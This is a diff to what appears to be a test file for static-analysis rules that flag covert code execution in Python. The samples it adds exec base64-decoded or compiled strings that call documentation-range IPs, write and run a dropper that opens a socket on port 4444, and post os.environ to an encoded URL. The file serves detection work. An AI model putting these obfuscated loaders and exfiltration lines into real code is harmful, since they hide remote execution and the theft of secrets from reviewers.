@@ -8,7 +8,9 @@ import socket
 import runpy
 import subprocess
 import sys
+import types
 import zlib
+from pathlib import Path
 from subprocess import check_output as co
 from urllib.request import urlopen
 
@@ -83,6 +85,13 @@ getattr(builtins, "exec")("requests.get('https://203.0.113.10/g')")
 __builtins__.__dict__["exec"]("requests.get('https://203.0.113.11/d')")
 # ruleid: covert.exec-decoded host=203.0.113.12
 exec(compile("".join(["requests.", "get('https://203.0.113.12/j')"]), "<s>", "exec"))
+# ruleid: covert.exec-decoded host=203.0.113.14
+types.FunctionType(compile("requests.get('https://203.0.113.14/f')", "<f>", "exec"), globals())()
+LOADER_SRC = base64.b64decode("cmVxdWVzdHMuZ2V0KCJodHRwczovLzIwMy4wLjExMy4xNS9tIik=")
+spec = importlib.util.spec_from_loader("stage", loader=None)
+mod = importlib.util.module_from_spec(spec)
+# ruleid: covert.exec-decoded host=203.0.113.15
+exec(LOADER_SRC, mod.__dict__)
 # ok: covert.exec-decoded
 exec(base64.b64decode("cHJpbnQoMSk="))
 # ok: covert.exec-decoded
@@ -99,6 +108,12 @@ def dropper():
     subprocess.run([sys.executable, "/tmp/other.py"])
     # ruleid: covert.exec-decoded host=203.0.113.13
     exec(open("/tmp/stage.py").read())
+
+
+def dropper_pathlib():
+    Path("/tmp/p2.py").write_text("import socket\nsocket.create_connection(('198.51.100.30', 4444))\n")
+    # ruleid: covert.exec-written-file host=198.51.100.30
+    runpy.run_path("/tmp/p2.py")
 
 # ruleid: covert.obfuscated-destination
 requests.post(base64.b64decode("aHR0cHM6Ly8yMDMuMC4xMTMuNS91").decode(), data=os.environ)
